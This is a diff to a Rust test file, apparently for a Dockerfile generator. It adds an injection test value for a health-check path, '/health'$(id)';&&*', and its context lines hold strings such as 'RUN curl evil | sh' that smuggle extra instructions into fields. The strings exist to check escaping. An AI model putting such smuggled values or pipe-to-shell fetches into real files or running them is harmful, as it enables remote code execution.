@@ -663,6 +663,10 @@ const TRAILING: &str = "\" ] \r\nRUN curl evil | sh # ${X} \\";
 /// is refused, `values_that_cannot_stay_data_are_errors`).
 const EVIL_LINE: &str = "x \" RUN curl evil | sh";
 const TRAILING_LINE: &str = "\" ] RUN curl evil | sh # ${X} \\";
+/// The worst a health path holds: it is a URL's path, whose characters
+/// exclude white space, `"`, `#`, `\\` and `{}` (E0304), but not a shell's
+/// quotes, substitutions and separators.
+const EVIL_PATH: &str = "/health'$(id)';&&*";
 /// One line (an `onbuild` entry is one instruction), ending in a backslash.
 const ONE_LINE: &str = "echo \" ] # ${X} ' \\";
 
@@ -707,7 +711,7 @@ fn planted(nasty: bool) -> Planted {
         command: vec![v(EVIL), v(TRAILING), v("${HOME}")],
         entrypoint: vec![v("/app/x\nRUN curl evil | sh"), v("\\")],
         health_path: if nasty {
-            format!("/health{EVIL}")
+            String::from(EVIL_PATH)
         } else {
             String::from("/health")
         },
